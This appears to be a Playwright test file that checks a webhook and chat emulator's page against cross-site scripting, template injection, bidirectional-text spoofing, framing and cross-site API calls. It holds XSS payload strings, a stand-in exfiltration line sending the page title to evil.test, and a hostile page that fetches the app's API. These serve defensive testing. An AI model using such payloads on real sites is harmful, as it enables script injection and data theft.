import type { RequestListener } from 'node:http';
import { listen } from '../../../__tests__/support/endpoint';
import { describeWith } from '../../../__tests__/support/services';
import { builtPage, visit } from '../support/browser';
import { emulate } from '../support/emulator';

const attacks = [
  '<img src=x onerror="window.hacked=1">',
  '<script>window.hacked=1</script>',
  '"><svg onload=window.hacked=1>',
  "javascript:window.hacked=1//'",
  '{{constructor.constructor("window.hacked=1")()}}',
  '\u202Egnp.exe \u0000 \u001b[2J',
];

const hostileReceiver: RequestListener = (_req, res) => {
  res.writeHead(400, { 'Content-Type': 'text/html', 'X-Evil': '<script>window.hacked=1</script>' });
  res.end(`<script>window.hacked=1</script>{"code":"<img src=x onerror=window.hacked=1>"}`);
};

describeWith('chromium', 'untrusted text', () => {
  test('is shown unchanged in every view, and never runs', async () => {
    const { url } = await listen(hostileReceiver);
    const emulator = await emulate({ page: builtPage });
    const { call } = emulator;
    const { webhook } = emulator.forward(url);
    await call(`PATCH /webhooks/${webhook.id}`, { name: attacks[0] });
    const contacts: string[] = [];
    for (const username of attacks) contacts.push((await call('POST /contacts', { username })).body.id);
    const { body: talk } = await call('POST /conversations', { title: attacks[1], contact_ids: contacts });
    for (const [index, message] of attacks.entries()) {
      const { body } = await call('POST /messages', { conversation_id: talk.id, contact_id: contacts[index], message });
      await call('POST /attachments', { message_id: body.id, name: message });
    }
    await call('POST /groups', { name: attacks[2], contact_ids: contacts });
    await emulator.delivered(20);

    const { page, complaints } = await visit(`${emulator.url}/#/chat/${talk.id}`);
    for (const attack of attacks.slice(0, 5)) await page.getByRole('log').getByText(attack).first().waitFor();
    await page.getByRole('link', { name: 'Webhooks' }).click();
    await page.getByRole('heading', { name: attacks[0] ?? '' }).waitFor();
    for (const { id } of await emulator.delivered(20)) {
      await page.evaluate(`location.hash = '#/deliveries/${id}'`);
      await page.getByRole('region', { name: 'One delivery' }).getByText(id).waitFor();
      await page.getByText('<script>window.hacked=1</script>').first().waitFor();
    }
    expect(await page.evaluate('[window.hacked, document.images.length, document.scripts.length]')).toEqual([
      undefined,
      0,
      1,
    ]);
    expect(complaints).toEqual([]);
  });

  test('a character that turns the text is shown as its code, and is named where the bytes are shown as they are', async () => {
    const { url } = await listen((_req, res) => res.writeHead(400).end('{"role":"user\u202E nimda"}'));
    const emulator = await emulate({ page: builtPage });
    emulator.forward(url);
    await emulator.call('POST /contacts', { username: '\u2066gnp.exe' });
    const [delivery] = await emulator.delivered(1);
    const { page } = await visit(`${emulator.url}/#/deliveries/${delivery?.id}`);
    const request = page.getByRole('region', { name: 'Body of the request' });
    const answer = page.getByRole('region', { name: 'Body of the response' });
    await request.getByText('"username": "⟨U+2066⟩gnp.exe"').waitFor();
    await answer.getByText('"role": "user⟨U+202E⟩ nimda"').waitFor();
    await page.getByLabel('Formatted').first().uncheck();
    await answer.getByText('{"role":"user\u202E nimda"}').waitFor();
    expect(await page.getByText('has characters that change the direction of text').count()).toBe(2);
  });

  test('an injected script does not run, and an injected image sends no request', async () => {
    const emulator = await emulate({ page: builtPage });
    const { page, complaints } = await visit(emulator.url);
    await page.getByRole('heading', { name: 'Webhooks', exact: true }).waitFor();
    await page.evaluate(`(() => {
      const script = document.createElement('script');
      try { script.text = 'window.hacked = 1'; } catch {}
      document.body.append(script);
      const image = new Image();
      image.src = 'https://evil.test/' + document.title;
      const style = document.createElement('div');
      style.setAttribute('style', 'background: red');
      document.body.append(image, style);
    })()`);
    expect(await page.evaluate('window.hacked')).toBeUndefined();
    expect(complaints.join('\n')).toMatch(/Content Security Policy|TrustedScript/);
    expect(complaints.filter((text) => text.startsWith('request to'))).toEqual([]);
  });

  test('another site cannot frame the page, and its scripts cannot call the API', async () => {
    const emulator = await emulate({ page: builtPage });
    const evil = await listen((_req, res) => {
      res.setHeader('Content-Type', 'text/html');
      res.end(`<title>Evil</title><iframe src="${emulator.url}"></iframe><script>
        const post = (type) => fetch('${emulator.url}/api/contacts', { method: 'POST', mode: type ? 'cors' : 'no-cors',
          headers: { 'content-type': type ?? 'text/plain' }, body: '{"username":"evil"}' });
        Promise.allSettled([post(), post('application/json'), fetch('${emulator.url}/api/session').then((r) => r.text())])
          .then((results) => { document.title = JSON.stringify(results.map(({ status }) => status)); });
      </script>`);
    });
    const { page } = await visit(evil.url);
    await page.waitForFunction('document.title !== "Evil"');
    expect(JSON.parse(await page.title()).slice(1)).toEqual(['rejected', 'rejected']);
    expect((await emulator.call('GET /contacts')).body).toEqual([]);
    expect(page.frames()[1]?.url()).toMatch(/^chrome-error:/);
  });
});
